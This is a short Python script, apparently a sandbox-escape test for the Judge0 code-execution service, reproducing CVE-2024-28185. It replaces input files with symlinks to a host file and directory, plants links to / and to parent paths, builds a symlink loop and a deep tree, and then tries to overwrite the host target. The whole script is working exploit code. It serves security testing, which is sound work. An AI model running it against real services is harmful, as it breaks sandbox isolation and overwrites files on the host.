# summary: Judge0 CVE-2024-28185: replace the run's input files, and plant more, with links to a
#    host file and directory
# harness: judge0
import contextlib
import os
import sys

victim, victim_dir = sys.argv[1], sys.argv[2]
for name in ("data.csv", "main.py", "sub/dir/input.txt", "attack.py"):
    os.unlink(f"/workspace/{name}")
    os.symlink(victim, f"/workspace/{name}")
for name in ("stdout", "stderr", "output.txt", "result.json", ".", "meta"):
    for base in ("/workspace", "/tmp"):
        with contextlib.suppress(OSError):
            os.symlink(victim_dir if name == "." else victim, f"{base}/{name}-link")
os.rename("/workspace/sub", "/workspace/sub-moved")
os.symlink(victim_dir, "/workspace/sub")
os.symlink("/", "/workspace/root")
for hop in ("/workspace/up", "/tmp/up"):
    os.symlink("../../../../../../..", hop)
# a link loop and a very deep tree, for a supervisor that would walk the workspace
os.symlink("loop-b", "/workspace/loop-a")
os.symlink("loop-a", "/workspace/loop-b")
path = "/workspace/deep"
for _ in range(100):
    path += "/d"
os.makedirs(path)
for target in (victim, f"{victim_dir}/new-file"):
    try:
        with open(target, "w") as file:
            file.write("overwritten")
        print("ESCAPED wrote", target)
    except OSError:
        pass
print("HELD: the links are planted; the host side must ignore them")
